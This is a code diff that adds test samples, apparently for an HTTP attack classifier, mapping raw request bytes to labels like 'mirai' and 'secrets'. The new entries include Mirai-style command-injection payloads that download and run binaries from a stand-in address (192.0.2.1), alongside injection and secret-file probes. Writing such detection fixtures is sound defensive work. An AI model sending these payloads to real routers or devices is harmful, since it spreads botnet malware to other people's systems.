@@ -93,6 +93,8 @@ SAMPLES = {
               b'{"action":"coreui_Component","method":"previewAssets","data":[{"expression":"1"}]}'),
     "continuum": ("continuum", b"POST /continuum/saveInstallation.action HTTP/1.1\r\nHost: h\r\n\r\n"
                   b"installation.name=x&installation.type=jdk&installation.varValue=%60id%60"),
+    "mirai_dropper": ("mirai", b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: h\r\n\r\n<NewStatusURL>$(/bin/busybox "
+                      b"wget -g 192.0.2.1 -l /tmp/x -r /bins/x.mips)</NewStatusURL>"),
     "secrets_probe": ("secrets", b"GET /.git/config HTTP/1.1\r\nHost: h\r\n\r\n"),
 }
 
@@ -308,6 +310,10 @@ OBFUSCATED = {
     "weblogic-double": (b"GET /console/images/%252E%252E%252Fconsole.portal HTTP/1.1\r\nHost: h\r\n\r\n",
                         "weblogic"),
     "env-prefix": (b"GET /api/.env HTTP/1.1\r\nHost: h\r\n\r\n", "secrets"),
+    "dropper-arch": (b"GET /cgi-bin/luci/;stok=/locale?form=country&country=$(cd+/tmp;wget+http://192.0.2.1/"
+                     b"bins/sora.arm7;chmod+777+sora.arm7;./sora.arm7) HTTP/1.1\r\nHost: h\r\n\r\n", "mirai"),
+    "bot-v": (b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; "
+              b"http://cloudsystemnetworks.com)\r\n\r\n", "spider"),
 }
 
 
